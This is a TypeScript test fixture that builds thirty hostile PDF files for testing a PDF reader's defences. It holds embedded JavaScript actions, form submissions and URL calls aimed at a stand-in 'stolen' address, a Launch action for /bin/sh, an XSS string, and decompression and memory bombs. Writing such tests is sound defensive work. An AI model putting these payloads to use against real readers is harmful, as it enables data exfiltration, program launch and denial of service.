import { deflateSync } from "node:zlib";
import {
  brokenPdf,
  filledForm,
  hollowPdf,
  linesOf,
  lockedPdf,
  longPdf,
  memoryBomb,
  pdfOfPages,
  scannedPdf,
  streamOf,
  textPdf,
  timeBomb,
} from "./pdf-files";

/** Files that try to do more than be read: thirty, by what they try. */

/** Nobody may ask for this address. */
export const ELSEWHERE = "http://127.0.0.1:9/stolen";

const page = (words: string) => [streamOf(linesOf([words]))];
const script = (code: string) => `<< /S /JavaScript /JS (${code}) >>`;
const link = (action: string) =>
  `/Annots [<< /Type /Annot /Subtype /Link /Rect [0 0 612 792] /A ${action} >>] `;
const catalogue = (entries: string) => pdfOfPages(page("Catalogue"), { catalogue: `${entries} ` });
const onPage = (entries: string) => pdfOfPages(page("Page"), { page: `${entries} ` });
const widget = (entries: string) =>
  `/Annots [<< /Type /Annot /Subtype /Widget /FT /Tx /T (a) /Rect [72 600 300 620] ${entries} >>] `;

/** A picture that claims this many pixels a side. */
const picture = (side: number, filter: string, data: Buffer) =>
  pdfOfPages([streamOf("q 612 0 0 792 0 0 cm /Scan Do Q")], {
    resources: "/XObject << /Scan 6 0 R >> ",
    more: [
      streamOf(
        data,
        `/Type /XObject /Subtype /Image /Width ${side} /Height ${side} /ColorSpace /DeviceGray ` +
          `/BitsPerComponent 8 /Filter /${filter} `,
      ),
    ],
  });

export const HOSTILE_PDFS: Record<string, Buffer> = {
  "script when opened": catalogue(`/OpenAction ${script("app.alert\\('opened'\\)")}`),
  "script by name": catalogue(
    `/Names << /JavaScript << /Names [(a) ${script("app.alert\\('named'\\)")}] >> >>`,
  ),
  "script before closing": catalogue(`/AA << /WC ${script("app.alert\\('closing'\\)")} >>`),
  "script of a page": onPage(`/AA << /O ${script("app.alert\\('page'\\)")} >>`),
  "script of a field": onPage(widget(`/AA << /K ${script("app.alert\\('key'\\)")} >>`)),
  "script of a link": onPage(link(script("app.alert\\('link'\\)"))),
  "script that sends": catalogue(`/OpenAction ${script(`app.launchURL\\('${ELSEWHERE}'\\)`)}`),
  "script that submits": catalogue(`/OpenAction ${script(`this.submitForm\\('${ELSEWHERE}'\\)`)}`),
  "address when opened": catalogue(`/OpenAction << /S /URI /URI (${ELSEWHERE}) >>`),
  "address of script": onPage(link("<< /S /URI /URI (javascript:alert\\(1\\)) >>")),
  "link elsewhere": onPage(link(`<< /S /URI /URI (${ELSEWHERE}) >>`)),
  "form that is sent": catalogue(`/OpenAction << /S /SubmitForm /F (${ELSEWHERE}) >>`),
  "form that is fetched": catalogue(`/OpenAction << /S /ImportData /F (${ELSEWHERE}) >>`),
  "file elsewhere": catalogue(`/OpenAction << /S /GoToR /F (${ELSEWHERE}) /D [0 /Fit] >>`),
  "program to launch": catalogue("/OpenAction << /S /Launch /F (/bin/sh) >>"),
  "print dialog": catalogue("/OpenAction << /S /Named /N /Print >>"),
  "form of XFA": catalogue(
    "/AcroForm << /Fields [] /XFA (<xdp:xdp><script>app.alert\\(1\\)</script></xdp:xdp>) >>",
  ),
  "filled form": filledForm(),
  "picture from elsewhere": pdfOfPages(page("Elsewhere"), {
    resources: "/XObject << /Scan 6 0 R >> ",
    more: [
      `<< /Type /XObject /Subtype /Image /F << /FS /URL /F (${ELSEWHERE}) >> /Width 1 /Height 1 /Length 0 >>`,
    ],
  }),
  "words of HTML": textPdf([["<img src=x onerror=alert(1)><script>alert(2)</script>"]]),
  locked: lockedPdf(),
  scanned: scannedPdf(),
  broken: brokenPdf(),
  hollow: hollowPdf(),
  "picture without end": picture(30_000, "FlateDecode", deflateSync(Buffer.alloc(1_000))),
  "picture that is broken": picture(2_000, "JPXDecode", Buffer.alloc(500, 7)),
  "pages without end": pdfOfPages(page("Huge"), { page: "/MediaBox [0 0 100000 100000] " }),
  "three hundred pages": longPdf(300),
  memory: memoryBomb(1_000),
  time: timeBomb(),
};
